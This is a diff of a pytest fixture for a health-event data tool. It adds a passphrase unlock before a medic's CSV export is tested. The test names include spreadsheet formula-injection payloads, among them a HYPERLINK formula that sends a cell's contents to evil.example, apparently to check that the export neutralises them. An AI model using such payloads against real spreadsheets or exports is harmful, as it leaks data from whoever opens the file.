@@ -7,23 +7,26 @@ import csv
 import pytest
 
 from carekit.domain.enums import ConsentKind, Role
-from carekit.services import consent, health_export, operators, screening
+from carekit.services import consent, health_export, health_key, operators, screening
 from carekit.services.events import SiteInput, create_event, current_event
 from carekit.services.people import PersonInput, register_people
 from carekit.store.db import Database
 
+HEALTH = "mango lantern 19"
 NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(1,2)", "-2+3", "@cmd", "\tTAB", "\rCR", "王小明"]
 
 
 @pytest.fixture
 def medic_export(tmp_path):
     db = Database(tmp_path / "event.carekit")
-    lead = create_event(db, name="骑手关爱日", operator_name="Lin", sites=[SiteInput("深圳")], pin="246810")
+    lead = create_event(db, name="骑手关爱日", operator_name="Lin", sites=[SiteInput("深圳")], pin="246810",
+                        health_passphrase=HEALTH)
     operators.add_operator(lead, "Dr Chen", [Role.MEDIC], pin="135790")
     with lead.writing() as journal:
         people = register_people(journal, current_event(journal.session), [PersonInput(n) for n in NAMES],
                                  source="roster.xlsx")
     medic = operators.sign_in(db, "Dr Chen", "135790")
+    health_key.unlock_health(medic, HEALTH)
     for person in people:
         consent.record_consent(medic, person.person_id, ConsentKind.HEALTH, "2026-v1", "zh_CN")
         screening.record_screening(medic, person.person_id, "body", {"height_cm": "170", "weight_kg": "65"})
